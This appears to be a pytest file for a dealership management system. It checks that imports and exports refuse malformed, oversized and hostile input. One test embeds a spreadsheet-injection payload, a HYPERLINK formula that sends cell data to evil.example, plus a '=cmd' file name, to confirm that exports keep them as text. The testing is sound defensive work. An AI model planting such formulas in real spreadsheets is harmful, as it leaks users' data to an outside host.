"""Hostile and careless input (issue 13): numbers beyond any 4S store's, NaN, infinity,
malformed numbers, formulas, damaged files and unstorable text are clear errors naming the
field (and the row), the same on SQLite and PostgreSQL, and leave the database unchanged."""

import zipfile
from decimal import Decimal

import pytest
from openpyxl import Workbook
from sqlalchemy import func, select

from builders import as_user, received_order
from dms.crm.customers import CustomerIn, create_customer
from dms.errors import ValidationError
from dms.models import AuditLog, Customer, Fee, LabourLine, Part, PartLine, WorkOrder
from dms.reports.imports import import_file
from dms.workshop import estimates

PART_HEAD = ["配件编码", "条码", "名称", "品牌", "大类", "单位", "正厂(是/否)", "供应商", "销售价", "补货点"]


def state(db):
    """Row counts and the money on file: what a refused input must leave as it was."""
    with db.reading() as s:
        counts = tuple(s.scalar(select(func.count()).select_from(m))
                       for m in (Customer, Part, WorkOrder, LabourLine, PartLine, Fee, AuditLog))
        prices = sum(s.scalars(select(Part.sale_price)), Decimal(0))
        fees = sum(s.scalars(select(Fee.amount)), Decimal(0))
    return counts, prices, fees


def _parts_file(path, price, *, formula=False):
    wb = Workbook()
    ws = wb.active
    ws.append(PART_HEAD)
    ws.append(["HOST-0001", None, "配件一", "现代", "保养", "个", "是", "供应商", 19.9, 1])
    ws.append(["HOST-0002", None, "配件二", "现代", "保养", "个", "是", "供应商", price, 1])
    if formula:
        ws["I3"] = "=I2*1000"  # openpyxl writes no cached value, as an unsaved script would
    wb.save(path)
    return path


@pytest.mark.parametrize("price, code", [
    ("1e20", "import.too_large"), (1e20, "import.too_large"), ("1e30", "import.too_large"),
    ("1e400", "import.too_large"), ("9e15", "import.too_large"), (0, "import.zero_price"),
    ("NaN", "import.number"), ("inf", "import.number"), ("12,3x", "import.number"),
])
@pytest.mark.parametrize("dry_run", [True, False])
def test_an_impossible_price_is_a_row_error_in_the_dry_run_too(demo_db, tmp_path, price, code,
                                                               dry_run):
    admin = as_user(demo_db, "admin")
    before = state(demo_db)
    result = import_file(demo_db, admin, "parts", _parts_file(tmp_path / "p.xlsx", price),
                         dry_run=dry_run)
    [error] = result.errors
    assert (error.row, error.column, error.code) == (3, "销售价", code)
    assert result.rows_imported == 0 and state(demo_db)[:2] == before[:2]


def test_a_formula_without_a_calculated_value_is_a_row_error(demo_db, tmp_path):
    admin = as_user(demo_db, "admin")
    before = state(demo_db)
    result = import_file(demo_db, admin, "parts",
                         _parts_file(tmp_path / "p.xlsx", None, formula=True), dry_run=True)
    [error] = result.errors
    assert (error.row, error.code) == (3, "import.formula") and "=I2*1000" in error.message
    assert state(demo_db) == before


def test_damaged_sheet_xml_is_a_clear_error(demo_db, tmp_path):
    good = _parts_file(tmp_path / "good.xlsx", 10)
    bad = tmp_path / "bad.xlsx"
    with zipfile.ZipFile(good) as src, zipfile.ZipFile(bad, "w") as dst:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = data[: len(data) // 2]  # cut off in the middle of a row
            dst.writestr(item, data)
    before = state(demo_db)
    with pytest.raises(ValidationError) as err:
        import_file(demo_db, as_user(demo_db, "admin"), "parts", bad, dry_run=True)
    assert err.value.code == "import.unreadable"
    assert state(demo_db) == before


@pytest.mark.parametrize("amount", ["1e20", "1e30", "1e400", 10**12, "100000000.01"])
def test_a_fee_beyond_100_million_is_refused_naming_the_field(demo_db, amount):
    advisor = as_user(demo_db, "advisor1")
    wo = received_order(demo_db, advisor)
    before = state(demo_db)
    with pytest.raises(ValidationError) as err:
        estimates.add_fee(demo_db, advisor, wo, "other", amount)
    assert err.value.code == "value.too_large" and err.value.params["field"] == "amount"
    assert state(demo_db) == before


@pytest.mark.parametrize("hours", ["1e20", "NaN", "1001"])
def test_impossible_hours_are_refused(demo_db, hours):
    advisor = as_user(demo_db, "advisor1")
    wo = received_order(demo_db, advisor)
    before = state(demo_db)
    with pytest.raises(ValidationError) as err:
        estimates.add_labour(demo_db, advisor, wo, "JX01", billed_hours=hours)
    assert err.value.code in ("value.too_large", "estimate.hours")
    assert state(demo_db) == before


@pytest.mark.parametrize("field, value, code", [
    ("name", "名" * 150, "text.too_long"), ("mobile", "1" * 40, "text.too_long"),
    ("name", "王\0五", "text.bad_character"), ("address", "北京\ud800", "text.bad_character"),
])
def test_text_that_one_backend_would_refuse_is_refused_on_both(demo_db, field, value, code):
    advisor = as_user(demo_db, "advisor1")
    before = state(demo_db)
    data = {"name": "王五", "kind": "person"} | {field: value}
    with pytest.raises(ValidationError) as err:
        create_customer(demo_db, advisor, CustomerIn(**data))
    assert err.value.code in (code, "customer.mobile")
    assert state(demo_db) == before


@pytest.mark.parametrize("mileage", [-1, "1e20", 3_000_000, "12.5"])
def test_an_impossible_mileage_is_refused(demo_db, mileage):
    from dms.crm.customers import VehicleIn, create_vehicle

    advisor = as_user(demo_db, "advisor1")
    with demo_db.reading() as s:
        customer_id = s.scalar(select(func.min(Customer.id)))
    before = state(demo_db)
    with pytest.raises(ValidationError) as err:
        create_vehicle(demo_db, advisor, VehicleIn(customer_id=customer_id,
                                                   vin="LBEHDAFB8NX123456", mileage=mileage))
    assert err.value.code in ("vehicle.mileage", "value.too_large")
    assert state(demo_db) == before


EVIL = '=HYPERLINK("http://evil.example/?"&E2,"x")'


def _no_formulas(path) -> None:
    with zipfile.ZipFile(path) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in z.read(n) for n in sheets)


def test_user_text_is_never_a_formula_in_an_export(demo_db, tmp_path):
    from openpyxl import load_workbook

    from dms.reports.excel import export

    admin = as_user(demo_db, "admin")
    create_customer(demo_db, as_user(demo_db, "advisor1"), CustomerIn(name=EVIL, notes="@SUM(1)"))
    export(demo_db, admin, "customers", tmp_path / "c.xlsx")
    _no_formulas(tmp_path / "c.xlsx")
    cells = [c for row in load_workbook(tmp_path / "c.xlsx").active.iter_rows() for c in row
             if c.value in (EVIL, "@SUM(1)")]
    assert len(cells) == 2 and all(c.data_type == "s" and c.quotePrefix for c in cells)


def test_the_import_report_keeps_the_files_cells_and_name_as_text(demo_db, tmp_path):
    wb = Workbook()
    ws = wb.active
    ws.append(["客户编号", "姓名", "手机"])
    ws.append(["T00001", EVIL, "not a phone"])
    path = tmp_path / "=cmd.xlsx"
    wb.save(path)
    result = import_file(demo_db, as_user(demo_db, "admin"), "customers", path, dry_run=True)
    assert result.errors
    _no_formulas(result.report_path)


@pytest.mark.parametrize("qty", ["1e20", "1e400", "100001"])
def test_an_impossible_quantity_is_refused(qty):
    from dms.parts import stock

    with pytest.raises(ValidationError) as err:
        stock.quantity(qty)
    assert err.value.code == "value.too_large" and err.value.params["field"] == "quantity"


@pytest.mark.parametrize("amount", ["1e20", "1e30", "1e400"])
def test_an_impossible_payment_is_refused_before_any_database_work(amount):
    from dms.billing.settlement import PaymentIn, _check_payments

    with pytest.raises(ValidationError) as err:
        _check_payments([PaymentIn("cash", Decimal(amount))])
    assert err.value.code in ("value.too_large", "settlement.payment_amount")


@pytest.mark.parametrize("penalty", ["1e20", "1e30", "-1"])
def test_an_impossible_qc_penalty_is_refused(penalty):
    from dms.workshop.qc import _penalty

    with pytest.raises(ValidationError) as err:
        _penalty(penalty)
    assert err.value.code in ("value.too_large", "qc.penalty")


def test_planned_hours_beyond_a_job_are_refused():
    from dms.workshop.dispatch import _planned

    with pytest.raises(ValidationError) as err:
        _planned(None, None, "1e20", None)
    assert err.value.code == "value.too_large"


def test_bound_errors_read_in_both_languages(zh_cn):
    from dms.ui import messages

    with pytest.raises(ValidationError) as err:
        estimates.number("1e20", "estimate.fee_amount")
    assert messages.error_text(err.value) == "金额最多为 100000000，不能是 1e20。"


@pytest.mark.parametrize("cost", ["1e20", "1e400"])
def test_an_impossible_unit_cost_is_refused(cost):
    from dms.parts.receipts import _cost

    with pytest.raises(ValidationError) as err:
        _cost(cost, "purchase")
    assert err.value.code in ("value.too_large", "stock.cost")


@pytest.mark.parametrize("fee", ["1e20", "-5", "abc"])
def test_an_impossible_membership_fee_is_refused(demo_db, fee):
    from dms.crm import membership

    with demo_db.reading() as s:
        customer_id = s.scalar(select(func.max(Customer.id)))
    before = state(demo_db)
    with pytest.raises(ValidationError) as err:
        membership.join(demo_db, as_user(demo_db, "care1"), customer_id, "general", "H-0001",
                        fee=fee)
    assert err.value.code in ("value.too_large", "membership.fee")
    assert state(demo_db) == before
